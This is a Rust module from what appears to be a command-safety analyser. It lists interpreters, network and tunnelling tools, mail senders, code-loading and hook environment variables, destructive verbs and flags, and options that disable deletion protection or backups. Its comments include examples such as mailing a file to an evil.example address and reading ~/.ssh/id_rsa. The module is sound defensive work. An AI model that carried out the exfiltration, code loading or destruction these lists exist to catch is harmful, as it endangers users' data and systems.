//! The words the analysis knows: program classes, variables, verbs, flags.

pub(super) use crate::policy::shell::SHELLS;

pub(super) fn is_interpreter(program: &str) -> bool {
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        base,
        "python"
            | "pypy"
            | "perl"
            | "ruby"
            | "irb"
            | "node"
            | "nodejs"
            | "deno"
            | "bun"
            | "php"
            | "lua"
            | "luajit"
            | "tclsh"
            | "wish"
            | "jrunscript"
            | "jjs"
            | "R"
            | "Rscript"
            | "gawk"
            | "osascript"
            | "expect"
            | "powershell"
            | "pwsh"
    )
}

/// Programs whose operands are URLs to fetch (`curl`, `wget`, httpie…):
/// a request to one is a query, judged by its destination and method.
pub(super) fn is_url_fetcher(program: &str) -> bool {
    matches!(
        program,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "httpie"
            | "aria2c"
            | "axel"
            | "lwp-request"
            | "lwp-download"
    )
}

/// Programs that send mail: their recipients are destinations
/// (`mail -s x a@evil.example < file`), like a tool call's `to`.
pub(super) fn is_mail_sender(program: &str) -> bool {
    matches!(
        program,
        "mail"
            | "mailx"
            | "bsd-mailx"
            | "s-nail"
            | "nail"
            | "mutt"
            | "neomutt"
            | "sendmail"
            | "ssmtp"
            | "msmtp"
            | "esmtp"
            | "exim"
            | "exim4"
            | "dma"
            | "mailsend"
            | "mailsend-go"
            | "sendemail"
            | "mpack"
            | "mhmail"
            | "biabam"
            | "sendxmpp"
            | "swaks"
    )
}

/// Programs whose only job is moving bytes over a network.
pub(super) const SOCKET_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "cryptcat",
    "sbd",
    "pwncat",
    "ftp",
    "tftp",
    "lftp",
    "smbclient",
    "nmap",
    "masscan",
    "curl",
    "wget",
    "aria2c",
    "axel",
    "http",
    "https",
    "xh",
    "ssh",
    "scp",
    "sftp",
    "mosh",
    "whois",
    "finger",
    "rsh",
    "rlogin",
    "rcp",
    "sshpass",
    "dig",
    "nslookup",
    "host",
    "drill",
    "kdig",
    "delv",
    "snmpget",
    "snmpwalk",
    "ldapsearch",
    "mysql",
    "psql",
    "redis-cli",
    "mongo",
    "mongosh",
    "ab",
    "hping3",
    "tcpdump",
    "wireshark",
    "tshark",
    "openvpn",
    "ngrok",
    "cloudflared",
    "chisel",
    "proxychains",
    "torsocks",
    "sshfs",
    "msfconsole",
    // Tunnels and relays: their job is carrying traffic somewhere else.
    "stunnel",
    "stunnel4",
    "tor",
    "autossh",
    "sshuttle",
    "corkscrew",
    "proxytunnel",
    "iodine",
    "dns2tcp",
    "dnscat",
    "frpc",
    "frps",
    "rathole",
    "bore",
    "gost",
    "microsocks",
    "websocat",
    "ztcp",
    "nping",
    "zmap",
    // Clients of other protocols: connecting is what they are run for.
    "ncftp",
    "ncftpget",
    "ncftpput",
    "ssh-keyscan",
    "snmpset",
    "snmpbulkwalk",
    "snmptrap",
    "irssi",
    "weechat",
    "rdesktop",
    "xfreerdp",
    "vncviewer",
    "remmina",
];

/// Programs that only print or test their arguments: a shell path in them
/// is data (`echo '#!/bin/sh'`, `which bash`).
pub(super) const DATA_PROGRAMS: &[&str] = &[
    "echo", "printf", "which", "whereis", "type", "ls", "file", "stat", "readlink", "realpath",
    "test", "[", "grep", "egrep", "fgrep", "rg", "ag", "git", "basename", "dirname", "chsh", "man",
    "info", "help", "hash", "whatis", "apropos", "tldr", "alias", "unalias", "tree", "last",
    "lastb",
];

/// Programs whose operands are words they print, test or resolve, not
/// files whose contents they read (`echo /etc/x`, `realpath ~/.ssh/id_rsa`).
pub(super) const PRINT_ONLY: &[&str] = &[
    "echo", "printf", "which", "whereis", "type", "command", "hash", "test", "[", "basename",
    "dirname", "realpath", "readlink", "alias", "help", "whatis", "apropos", "tldr",
];

/// Programs that print, page, count or transform the text they read: text
/// piped into them is data, whatever it says.
pub(super) const TEXT_FILTERS: &[&str] = &[
    "cat",
    "tac",
    "tee",
    "less",
    "more",
    "most",
    "head",
    "tail",
    "sort",
    "uniq",
    "wc",
    "tr",
    "cut",
    "fold",
    "fmt",
    "nl",
    "rev",
    "column",
    "paste",
    "base64",
    "xxd",
    "od",
    "hexdump",
    "iconv",
    "strings",
    "md5sum",
    "sha1sum",
    "sha256sum",
    "sha512sum",
    "cksum",
    "jq",
    "yq",
    "sed",
    "awk",
];

/// Variables that make a program run a command.
pub(super) const HOOK_VARIABLES: &[&str] = &[
    "PAGER",
    "GIT_PAGER",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "EDITOR",
    "VISUAL",
    "GIT_EDITOR",
    "SUDO_EDITOR",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_PROXY_COMMAND",
    "GIT_EXTERNAL_DIFF",
    "GIT_ASKPASS",
    "SSH_ASKPASS",
    "SUDO_ASKPASS",
    "LESSOPEN",
    "LESSCLOSE",
    "BROWSER",
    "PROMPT_COMMAND",
    "BASH_ENV",
    "ENV",
    "PS4",
    "GIT_CONFIG_PARAMETERS",
    "FCEDIT",
];

/// Variables that load code into a process.
pub(super) const LOADER_VARIABLES: &[&str] = &[
    "LD_PRELOAD",
    "LD_AUDIT",
    "LD_LIBRARY_PATH",
    "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH",
    "GCONV_PATH",
    "PERL5OPT",
    "RUBYOPT",
    "PYTHONSTARTUP",
    "PYTHONINSPECT",
];

/// Variables that list where an interpreter or runtime finds its modules:
/// a directory outside the workspace (or a temporary one) among them loads
/// whatever was put there.
pub(super) const MODULE_PATH_VARIABLES: &[&str] = &[
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONUSERBASE",
    "NODE_PATH",
    "RUBYLIB",
    "PERL5LIB",
    "PERLLIB",
    "CLASSPATH",
    "LUA_PATH",
    "LUA_CPATH",
    "GIT_EXEC_PATH",
    "GIT_TEMPLATE_DIR",
];

/// Destructive verbs, as a whole word or the first part of one
/// (`delete-stack`, `apps:destroy`, `db:drop`).
pub(super) const DESTROY_VERBS: &[&str] = &[
    "delete",
    "destroy",
    "drop",
    "purge",
    "remove",
    "rm",
    "rmi",
    "rb",
    "prune",
    "terminate",
    "wipe",
    "truncate",
    "revoke",
    "disable",
    "erase",
    "nuke",
    "flushall",
    "flushdb",
    "deregister",
    "unregister",
    "uninstall",
    "unpublish",
    "decommission",
    "teardown",
    "obliterate",
    "shred",
    "reset",
    "deprovision",
    "unsubscribe",
    "undefine",
    "del",
    // Membership and replacement: a node leaving a swarm or cluster, a
    // resource or machine replaced (destroyed, then created anew).
    "leave",
    "replace",
    "evict",
    "kill",
    // Emptying rule sets, caches of record, queues (`iptables --flush`,
    // `nft flush ruleset`, `ip route flush`).
    "flush",
    // `rm` with a kind letter (`crictl rmp`, `zkCli rmr`).
    "rmp",
    "rmr",
    // A setting removed from what runs (`heroku config:unset KEY`).
    "unset",
    // Reverting to an earlier state: a schema migration undone drops its
    // tables and columns (`alembic downgrade base`, `knex migrate:rollback
    // --all`, `sequelize db:migrate:undo:all`).
    "rollback",
    "downgrade",
    "undo",
    // Commits taken out of a repository's history (`hg strip`).
    "strip",
    // Nouns of destruction in a compound verb (`schedule-key-deletion`).
    "deletion",
    "removal",
    "destruction",
];

/// Verbs of programs whose other verbs only touch the working tree: these
/// act on a registry or an account (`npm unpublish`, `cargo yank`).
pub(super) const REGISTRY_VERBS: &[&str] = &["unpublish", "yank", "deprecate", "revoke"];

/// True when the program's own name says it destroys: `<noun>del`,
/// `<noun>delete`, `<noun>remove`, `drop<noun>` (`userdel`, `ldapdelete`,
/// `lvremove`, `dropdb`, `atrm`; after a vendor's prefix: `pg_dropcluster`),
/// or a name ending in a destructive verb (`vgremove`, `pvremove`,
/// `snap-remove`).
pub(super) fn destroy_program_name(program: &str) -> bool {
    let stem = program.trim_end_matches(|c: char| c.is_ascii_digit());
    let after_prefix = stem
        .bytes()
        .rposition(|b| b == b'_')
        .map(|at| &stem[at + 1..]);
    // Most names hold no verb's first two letters: a cheap pass rules
    // them out.
    let verb_in_name = stem
        .as_bytes()
        .windows(2)
        .any(|w| matches!(w, b"de" | b"rm" | b"re" | b"dr"));
    verb_in_name && (names_destruction(stem) || after_prefix.is_some_and(names_destruction))
        || [
            "-delete", "-destroy", "-remove", "-purge", "-wipe", "_delete", "_destroy",
        ]
        .iter()
        .any(|v| stem.ends_with(v))
}

/// `<noun><verb>` or `<verb><noun>`, for the nouns and verbs of
/// [`destroy_program_name`].
fn names_destruction(name: &str) -> bool {
    const NOUNS: &[&str] = &[
        "user", "group", "db", "database", "lang", "lv", "vg", "pv", "part", "mod", "snap", "port",
        "key", "zone", "role", "queue", "topic", "table", "schema", "volume", "disk", "ldap",
        "cluster", "slot", "at", "ipc", "job",
    ];
    let noun_then = |verb: &str| {
        name.strip_suffix(verb)
            .map(|n| n.trim_end_matches(['-', '_']))
            .is_some_and(|n| NOUNS.contains(&n))
    };
    let then_noun = |verb: &str| {
        name.strip_prefix(verb)
            .map(|n| n.trim_start_matches(['-', '_']))
            .is_some_and(|n| NOUNS.contains(&n))
    };
    noun_then("del")
        || noun_then("delete")
        || noun_then("remove")
        || noun_then("rm")
        || then_noun("drop")
        || then_noun("del")
        || then_noun("rm")
}

/// Programs whose destructive verbs only touch the working tree or its
/// dependencies (their own rules cover the rest).
pub(super) const WORKTREE_PROGRAMS: &[&str] = &[
    "git",
    "npm",
    "pnpm",
    "yarn",
    "pip",
    "pip3",
    "pipx",
    "uv",
    "poetry",
    "cargo",
    "go",
    "gem",
    "bundle",
    "composer",
    "rustup",
    "conda",
    "mamba",
    "make",
    "cmake",
    "ninja",
    "mvn",
    "gradle",
    "dotnet",
    "rm",
    "rmdir",
    "unlink",
    "docker-compose",
    "jest",
    "pytest",
    "tox",
    "nox",
    "bazel",
    "pre-commit",
    "black",
    "ruff",
    "eslint",
    "prettier",
    "tsc",
    "bun",
    "deno",
    "node",
    "python",
    "python3",
];

/// Flags that destroy whatever the program is.
pub(super) fn destroy_flag(arg: &str) -> bool {
    let Some(long) = arg.strip_prefix("--") else {
        // Verbs spelled as single-dash words (`hdfs dfs -rm -r`, `-rmr`,
        // `-expunge`, `-skipTrash`).
        return matches!(
            arg,
            "-rm"
                | "-rmr"
                | "-rmdir"
                | "-expunge"
                | "-skipTrash"
                | "-purge"
                | "-destroy"
                | "-drop"
                | "-delete"
        );
    };
    let name = long.split('=').next().unwrap_or(long);
    // An action spelled as a flag names what it deletes (`gpg
    // --delete-secret-keys`, `bfg --delete-files`, `rsync --delete-after`,
    // `nix-collect-garbage --delete-older-than 30d`).
    name.starts_with("delete-")
        || matches!(
            name,
            "delete"
            | "purge"
            | "prune"
            | "wipe"
            | "destroy"
            | "force-delete"
            | "force-reset"
            | "remove-all"
            | "drop"
            | "overwrite-all"
            | "no-preserve-root"
            | "flush"
            | "expunge"
            // The verb as a bare flag (`pool-autostart --disable`), not a
            // feature switch (`--disable-gpu`).
            | "disable"
        )
}

/// True when an option turns off a safeguard against deleting or
/// terminating a resource, the step before destroying it:
/// `--no-deletion-protection`, `--deletion-protection=false`,
/// `--enable-purge-protection false`, `--disable-deletion-protection`,
/// `--no-disable-api-termination` (the option that keeps an instance from
/// being terminated, negated); or against losing its data: the copies
/// kept of it turned off (`--no-backup`, `--backup-retention-period 0`,
/// `--versioning-configuration Status=Suspended`). `next` is the word
/// after `arg`.
pub(super) fn turns_off_safeguard(arg: &str, next: Option<&str>) -> bool {
    let Some(long) = arg.strip_prefix("--") else {
        return false;
    };
    let (name, value) = match long.split_once('=') {
        Some((name, value)) => (name, Some(value)),
        None => (long, next),
    };
    let guard = |n: &str| {
        n.ends_with("protection") || n == "disable-api-termination" || n == "disable-api-stop"
    };
    // Copies kept of the data, named as a part of a longer option (not
    // `cp --backup=off`, which is about the file it overwrites).
    let copies = |n: &str| {
        n.contains('-')
            && n.split('-')
                .any(|part| matches!(part, "backup" | "backups" | "versioning"))
    };
    if let Some(rest) = name.strip_prefix("no-") {
        // What is turned off is the last word (`--no-automated-backups`,
        // not `patch --no-backup-if-mismatch`).
        let last = rest.rsplit('-').next().unwrap_or(rest);
        return guard(rest) || matches!(last, "backup" | "backups" | "versioning");
    }
    if name
        .strip_prefix("disable-")
        .is_some_and(|n| n.ends_with("protection"))
    {
        return true;
    }
    (guard(name) || copies(name))
        && value.is_some_and(|v| {
            // The setting may be a key's value (`Status=Suspended`).
            let v = v.rsplit('=').next().unwrap_or(v);
            ["false", "off", "disabled", "no", "0", "suspended"]
                .iter()
                .any(|f| v.eq_ignore_ascii_case(f))
        })
}

/// Class bits of a program name (one lookup instead of a scan per list).
pub(super) const SHELL: u8 = 1;
/// A socket tool.
pub(super) const SOCKET: u8 = 2;
/// A program that only prints or tests its arguments.
pub(super) const DATA: u8 = 4;
/// A program whose verbs only touch the working tree or its dependencies.
pub(super) const WORKTREE: u8 = 8;

/// The class bits of `program` (0 for a program in no list).
pub(super) fn program_class(program: &str) -> u8 {
    type Map = std::collections::HashMap<&'static str, u8, foldhash::fast::FixedState>;
    static MAP: std::sync::OnceLock<Map> = std::sync::OnceLock::new();
    let map = MAP.get_or_init(|| {
        let mut map = Map::default();
        for (list, bit) in [
            (SHELLS, SHELL),
            (SOCKET_TOOLS, SOCKET),
            (DATA_PROGRAMS, DATA),
            (WORKTREE_PROGRAMS, WORKTREE),
        ] {
            for name in list {
                *map.entry(*name).or_insert(0) |= bit;
            }
        }
        map
    });
    map.get(program).copied().unwrap_or(0)
}

/// True when `word` (in lower case) is a destructive verb, alone or run
/// together with `all` (`deleteall`, `removeall`).
pub(super) fn is_destroy_verb(word: &[u8]) -> bool {
    type Set = std::collections::HashSet<&'static [u8], foldhash::fast::FixedState>;
    static SET: std::sync::OnceLock<Set> = std::sync::OnceLock::new();
    let set = SET.get_or_init(|| DESTROY_VERBS.iter().map(|v| v.as_bytes()).collect());
    (word.len() >= 2 && set.contains(word))
        || word
            .strip_suffix(b"all")
            .is_some_and(|verb| verb.len() > 3 && set.contains(verb))
}
